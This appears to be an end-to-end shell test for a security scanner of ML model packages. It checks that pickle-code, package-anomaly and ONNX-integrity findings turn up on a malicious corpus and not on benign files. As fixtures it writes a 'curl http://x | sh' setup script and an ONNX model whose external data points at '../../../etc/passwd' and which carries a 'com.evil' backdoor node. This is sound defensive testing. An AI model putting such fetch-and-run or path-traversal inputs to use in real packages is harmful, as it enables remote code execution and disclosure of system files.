#!/bin/sh
# End-to-end through the real CLI: `modelgate scan` with pickle-code and
# package-anomaly on a package holding the malicious corpus (exit 1, the
# payloads in the JSON report with their ATLAS ids) and on one holding the
# benign torch/numpy/scikit-learn files (nothing high or critical).
# Skips (77) until the host knows --only, or without Debian's python3.
set -u
MODELGATE=${MODELGATE:-${TOP_BUILDDIR:-.}/modelgate}
PY=${DEBIAN_PYTHON3:-/usr/bin/python3}
SRC=${TOP_SRCDIR:-.}
[ -x "$MODELGATE" ] || { echo "SKIP: no $MODELGATE"; exit 77; }
"$MODELGATE" scan --help 2>&1 | grep -q -- '--only' || { echo "SKIP: scan has no --only yet"; exit 77; }
[ -x "$PY" ] || { echo "SKIP: no python3"; exit 77; }

tmp=$(mktemp -d /tmp/mg-e2e-XXXXXX) || exit 1
trap 'rm -rf "$tmp"' EXIT INT TERM
"$PY" "$SRC/tests/plugins/common/gen_corpus.py" "$tmp/corpus" || { echo "FAIL: corpus"; exit 1; }

plugins=
[ -n "${MODELGATE_PLUGIN_DIR:-}" ] && plugins="--plugins $MODELGATE_PLUGIN_DIR"

scan() { # dir json -> exit status
  # shellcheck disable=SC2086
  "$MODELGATE" scan "$1" --only pickle-code,package-anomaly --json "$2" $plugins \
    >"$2.out" 2>&1
}

# Malicious package: the corpus plus a shell script.
cp -r "$tmp/corpus/malicious" "$tmp/bad"
printf '#!/bin/sh\ncurl http://x | sh\n' >"$tmp/bad/setup.sh"
scan "$tmp/bad" "$tmp/bad.json"
rc=$?
if [ "$rc" -ne 1 ]; then
  echo "FAIL: malicious package exited $rc, want 1"; cat "$tmp/bad.json.out"; exit 1
fi
"$PY" - "$tmp/bad.json" "$tmp/corpus/manifest.json" <<'PYEOF' || exit 1
import json, sys
rep = json.load(open(sys.argv[1]))
man = json.load(open(sys.argv[2]))
assert rep["verdict"] == "fail", rep["verdict"]
fs = rep["findings"]
for f in fs:
    for k in ("plugin", "severity", "title", "artifact", "atlas", "evidence"):
        assert k in f, (k, f)
def has(pred):
    return any(pred(f) for f in fs)
for want in man["malicious"]:
    if want["import"] in (None, "?"):
        continue
    art = want["file"].split("/", 1)[1]
    ok = has(lambda f: f["plugin"] == "pickle-code" and f["artifact"] == art
             and f["severity"] == want["severity"]
             and f["evidence"].get("import") == want["import"]
             and f["evidence"].get("offset") == want["offset"]
             and "AML.T0011.000" in f["atlas"])
    assert ok, ("missing", want)
assert has(lambda f: f["plugin"] == "package-anomaly" and f["artifact"] == "setup.sh"), "script"
assert has(lambda f: f["plugin"] == "pickle-code" and "AML.T0076" in f["atlas"]), "zip trick"
print("malicious package: %d findings, all %d payloads found" % (len(fs), len(man["malicious"])))
PYEOF

# Benign package.
scan "$tmp/corpus/benign" "$tmp/good.json"
rc=$?
if [ "$rc" -ne 0 ]; then
  echo "FAIL: benign package exited $rc, want 0"; cat "$tmp/good.json.out"; exit 1
fi
"$PY" - "$tmp/good.json" <<'PYEOF' || exit 1
import json, sys
rep = json.load(open(sys.argv[1]))
bad = [f for f in rep["findings"] if f["plugin"] == "pickle-code"
       and f["severity"] in ("critical", "high")]
assert not bad, bad
assert rep["verdict"] == "pass", rep["verdict"]
print("benign package: verdict pass, %d findings below high" % len(rep["findings"]))
PYEOF
# ONNX integrity: external data escaping the package, a custom domain, a
# graph input shadowing an initializer (needs python3-onnx to build it).
if "$PY" -c 'import onnx' 2>/dev/null; then
  mkdir -p "$tmp/onnx"
  "$PY" - "$tmp/onnx/model.onnx" <<'PYEOF' || exit 1
import sys
from onnx import helper, TensorProto
W = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4, 2])
W.data_location = TensorProto.EXTERNAL
for k, v in (("location", "../../../etc/passwd"), ("offset", "0"), ("length", "32")):
    e = W.external_data.add(); e.key = k; e.value = v
B = helper.make_tensor("B", TensorProto.FLOAT, [2], [0.0, 0.0])
g = helper.make_graph(
    [helper.make_node("Gemm", ["x", "W", "B"], ["h"]),
     helper.make_node("Backdoor", ["h"], ["y"], domain="com.evil")], "g",
    [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4]),
     helper.make_tensor_value_info("B", TensorProto.FLOAT, [2])],
    [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], initializer=[W, B])
m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 13),
                                        helper.make_opsetid("com.evil", 1)])
open(sys.argv[1], "wb").write(m.SerializeToString())
PYEOF
  # shellcheck disable=SC2086
  "$MODELGATE" scan "$tmp/onnx" --only onnx-integrity --json "$tmp/onnx.json" $plugins \
    >"$tmp/onnx.out" 2>&1
  rc=$?
  [ "$rc" -eq 1 ] || { echo "FAIL: onnx package exited $rc, want 1"; cat "$tmp/onnx.out"; exit 1; }
  "$PY" - "$tmp/onnx.json" <<'PYEOF' || exit 1
import json, sys
fs = json.load(open(sys.argv[1]))["findings"]
def sev(word):
    return [f["severity"] for f in fs if word in f["title"]]
assert sev("leaves the package") == ["critical"], fs
assert sev("com.evil") and sev("com.evil")[0] == "medium", fs
assert sev("shadows an initializer") == ["medium"], fs
assert all(f["artifact"] == "model.onnx" for f in fs), fs
print("onnx package: %d findings, external-data escape critical" % len(fs))
PYEOF
else
  echo "onnx part skipped: no python3-onnx"
fi

# pickle-code's caps are the host's limits table: --limit reaches them. Its
# own import list, padded past a limit the shipped rules stay under.
rules=${MODELGATE_RULES_DIR:-$SRC/rules}
{ cat "$rules/pickle-imports.xml"; head -c 200000 /dev/zero | tr '\0' ' '; } >"$tmp/big-rules.xml"
# shellcheck disable=SC2086
"$MODELGATE" scan "$tmp/corpus/benign" --only pickle-code --limit rules-bytes=100K \
  --set pickle-code.rules="$tmp/big-rules.xml" --json "$tmp/lim.json" $plugins >"$tmp/lim.out" 2>&1
"$PY" - "$tmp/lim.json" <<'PYEOF' || exit 1
import json, sys
p = json.load(open(sys.argv[1]))["plugins"][0]
assert p["status"] == "error", p
assert "rules-bytes limit exceeded" in p["message"], p["message"]
assert "--limit rules-bytes=N" in p["message"], p["message"]
print("--limit rules-bytes reaches pickle-code: " + p["message"])
PYEOF
echo "PASS"
